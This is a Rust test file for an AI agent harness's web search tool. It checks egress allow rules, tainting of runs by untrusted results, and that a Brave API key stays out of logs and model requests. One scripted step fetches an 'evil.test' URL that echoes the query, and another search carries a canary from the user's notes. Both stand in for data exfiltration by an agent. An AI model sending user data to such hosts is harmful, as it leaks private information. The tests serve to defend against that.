//! web_search through the real `warden run`, a scripted model and the fake web, which stands in
//! for the search APIs (SearXNG's `/search?format=json`, Brave's `/res/v1/web/search` with its
//! `X-Subscription-Token`); `[egress.resolve]` maps the test names to it, no real name is
//! resolved. Results reach the model as untrusted titles, URLs and snippets and taint the run;
//! a result is then fetched without asking, a result that echoes the query is not. The search
//! request passes the egress gate like a composed `web_fetch`: without an `allow` rule it is
//! refused before any lookup or connection. Brave's key goes only into its header: never to
//! the model, the log or the database; without a key warden refuses to start, naming it.

use crate::support::fake_llm::{FakeLlm, Turn};
use crate::support::fake_web::{FakeWeb, BRAVE_KEY};
use crate::support::warden_run::{audit_rows, lookups, warden_run, warden_run_with, write_config};
use serde_json::json;
use std::path::Path;

const CANARY: &str = "canary-3e9b71";
const SEARXNG: &str = "[search]\nprovider = \"searxng\"\nbase_url = \"http://search.test\"\n";

fn search(query: &str) -> Turn {
    Turn::tool_use("web_search", json!({ "query": query }))
}

fn fetch(url: &str) -> Turn {
    Turn::tool_use("web_fetch", json!({ "url": url }))
}

/// Every byte warden left in its data directory (the database and its journal), as text.
fn stored(home: &Path) -> String {
    let mut all = String::new();
    for entry in std::fs::read_dir(home.join(".warden")).unwrap() {
        let path = entry.unwrap().path();
        if path.is_file() {
            all.push_str(&String::from_utf8_lossy(&std::fs::read(path).unwrap()));
        }
    }
    all
}

#[tokio::test]
async fn results_reach_the_model_taint_the_run_and_a_result_is_fetched_without_asking() {
    let web = FakeWeb::start().await;
    let echo = "http://evil.test/echo/serde%20docs";
    let llm = FakeLlm::anthropic(vec![
        search("serde docs"),
        fetch("http://docs.test/page"),
        fetch(echo),
        Turn::text("done"),
    ])
    .await;
    let home = tempfile::tempdir().unwrap();
    write_config(
        home.path(),
        &format!(
            "{}{SEARXNG}[egress.hosts]\n\"search.test\" = \"allow\"\n",
            web.resolve_toml()
        ),
    );
    let out = warden_run(home.path(), &llm, "Find the serde docs").await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert_eq!(stdout.trim(), "done");
    assert!(llm.requests()[0]
        .tool_names()
        .contains(&"web_search".to_string()));

    let results = llm.requests()[3].tool_results();
    let found = &results[0];
    assert!(!found.is_error, "{}", found.content);
    for shown in [
        "Web search for \"serde docs\" (SearXNG at search.test): 3 results",
        "UNTRUSTED",
        "1. The docs page\n   http://docs.test/page\n   All about serde docs & more.",
        "2. Another page\n   http://other.test/linked?from=search",
    ] {
        assert!(found.content.contains(shown), "{shown}:\n{}", found.content);
    }
    // The result was fetched without asking; the one repeating the query was not known.
    assert!(!results[1].is_error, "{}", results[1].content);
    assert!(results[2].is_error);
    assert!(
        results[2]
            .content
            .contains("this run read untrusted content from: web_search \"serde docs\""),
        "the search tainted the run: {}",
        results[2].content
    );
    assert_eq!(
        web.requests(),
        [
            "search.test/search?q=serde+docs&format=json",
            "docs.test/page"
        ]
    );
    // The log shows each lookup (what the refusals below assert is absent).
    assert_eq!(lookups(&stderr).len(), 2, "{stderr}");

    let egress = audit_rows(home.path(), "egress");
    let seen: Vec<(&str, &str, &str)> = egress
        .iter()
        .map(|(d, i)| {
            (
                d.as_str(),
                i["tool"].as_str().unwrap(),
                i["provenance"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        seen,
        [
            ("allow", "web_search", "composed by the model"),
            ("allow", "web_fetch", "search result"),
            ("rejected", "web_fetch", "composed by the model"),
        ]
    );
    assert_eq!(
        egress[0].1["rule"],
        "[egress.hosts] \"search.test\" = \"allow\""
    );
    let searches = audit_rows(home.path(), "web_search");
    assert_eq!(searches.len(), 1);
    assert_eq!(searches[0].0, "allow");
    assert_eq!(searches[0].1, json!({"query": "serde docs"}));
}

#[tokio::test]
async fn a_search_host_without_an_allow_rule_is_refused_before_any_lookup_or_connection() {
    for (rule, decision, says) in [
        ("", "rejected", "the model composed this URL"),
        (
            "[egress.hosts]\n\"search.test\" = \"deny\"\n",
            "deny",
            "is refused by [egress.hosts] \"search.test\" = \"deny\"",
        ),
    ] {
        let web = FakeWeb::start().await;
        let llm = FakeLlm::anthropic(vec![
            search(&format!("my notes say {CANARY}")),
            Turn::text("Could not search."),
        ])
        .await;
        let home = tempfile::tempdir().unwrap();
        write_config(
            home.path(),
            &format!("{}{SEARXNG}{rule}", web.resolve_toml()),
        );
        let out = warden_run(home.path(), &llm, "What is in my notes?").await;
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{stderr}");
        let result = llm.requests()[1].tool_results().pop().unwrap();
        assert!(result.is_error, "{}", result.content);
        assert!(result.content.contains(says), "{}", result.content);
        if rule.is_empty() {
            assert!(
                result
                    .content
                    .contains("[egress.hosts] \"search.test\" = \"allow\""),
                "{}",
                result.content
            );
        }
        assert_eq!(lookups(&stderr), Vec::<&str>::new());
        assert_eq!(web.connections(), 0);
        let egress = audit_rows(home.path(), "egress");
        assert_eq!(egress.len(), 1);
        assert_eq!(egress[0].0, decision);
        assert_eq!(egress[0].1["tool"], "web_search");
        assert!(
            egress[0].1["url"].as_str().unwrap().contains(CANARY),
            "{:?}",
            egress[0]
        );
        assert_eq!(audit_rows(home.path(), "web_search")[0].0, decision);
    }
}

#[tokio::test]
async fn brave_gets_its_key_in_the_header_and_nobody_else_sees_it() {
    let web = FakeWeb::start().await;
    let llm = FakeLlm::anthropic(vec![search("rust"), Turn::text("found")]).await;
    let home = tempfile::tempdir().unwrap();
    write_config(
        home.path(),
        &format!(
            "{}[search]\nprovider = \"brave\"\nbase_url = \"http://brave.test\"\n\
             max_results = 2\n[egress.hosts]\n\"brave.test\" = \"allow\"\n",
            web.resolve_toml()
        ),
    );
    let out = warden_run_with(
        home.path(),
        &llm,
        "search for rust",
        &[("BRAVE_API_KEY", BRAVE_KEY)],
    )
    .await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    // The fake answers only with the right key in X-Subscription-Token.
    let result = llm.requests()[1].tool_results().pop().unwrap();
    assert!(!result.is_error, "{}", result.content);
    assert!(
        result
            .content
            .contains("Web search for \"rust\" (Brave Search at brave.test): 2 results"),
        "{}",
        result.content
    );
    assert!(result.content.contains("All about rust & more."));
    assert!(!result.content.contains("An echo"), "max_results = 2");
    assert_eq!(
        web.requests(),
        ["brave.test/res/v1/web/search?q=rust&count=2"]
    );
    // Debug logging was on; the key is in no log line, no model request, no stored byte.
    assert!(!stderr.contains(BRAVE_KEY), "{stderr}");
    assert!(!stdout.contains(BRAVE_KEY));
    for request in llm.requests() {
        assert!(!request.body.to_string().contains(BRAVE_KEY));
    }
    assert!(!stored(home.path()).contains(BRAVE_KEY));

    // A wrong key: Brave's refusal, which says where the key is set and does not show it.
    let wrong = "wrong-brave-key-0a7c55";
    let llm = FakeLlm::anthropic(vec![search("rust"), Turn::text("refused")]).await;
    let out = warden_run_with(home.path(), &llm, "search", &[("BRAVE_API_KEY", wrong)]).await;
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let result = llm.requests()[1].tool_results().pop().unwrap();
    assert!(result.is_error);
    assert!(
        result.content.contains("Brave Search answered HTTP 401")
            && result.content.contains("search.api_key"),
        "{}",
        result.content
    );
    let seen: String = llm.requests().iter().map(|r| r.body.to_string()).collect();
    assert!(!seen.contains(wrong));
    assert!(!String::from_utf8_lossy(&out.stderr).contains(wrong));
}

#[tokio::test]
async fn brave_without_a_key_is_an_error_naming_the_key() {
    let llm = FakeLlm::anthropic(vec![]).await;
    let home = tempfile::tempdir().unwrap();
    write_config(home.path(), "[search]\nprovider = \"brave\"\n");
    let out = warden_run(home.path(), &llm, "hello").await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("search.api_key") && stderr.contains("BRAVE_API_KEY"),
        "{stderr}"
    );
    assert_eq!(llm.request_count(), 0);
}

#[tokio::test]
async fn without_a_provider_there_is_no_search_tool() {
    let llm = FakeLlm::anthropic(vec![search("anything"), Turn::text("no search")]).await;
    let home = tempfile::tempdir().unwrap();
    write_config(home.path(), "");
    let out = warden_run(home.path(), &llm, "search the web").await;
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let offered = llm.requests()[0].tool_names();
    assert!(!offered.contains(&"web_search".to_string()), "{offered:?}");
    let result = llm.requests()[1].tool_results().pop().unwrap();
    assert!(result.is_error);
    assert!(
        result.content.contains("unknown tool \"web_search\""),
        "{}",
        result.content
    );
}
